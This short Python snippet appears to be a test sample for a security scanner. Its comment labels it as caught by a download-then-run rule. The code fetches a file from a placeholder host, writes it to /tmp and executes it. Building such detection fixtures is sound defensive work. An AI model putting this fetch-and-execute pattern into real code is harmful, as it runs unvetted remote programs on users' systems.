# evades: caught by execution/download-then-run
import requests, subprocess
with open("/tmp/worker", "wb") as out:
    out.write(requests.get("https://files.invalid/worker").content)
subprocess.Popen(["/tmp/worker"])
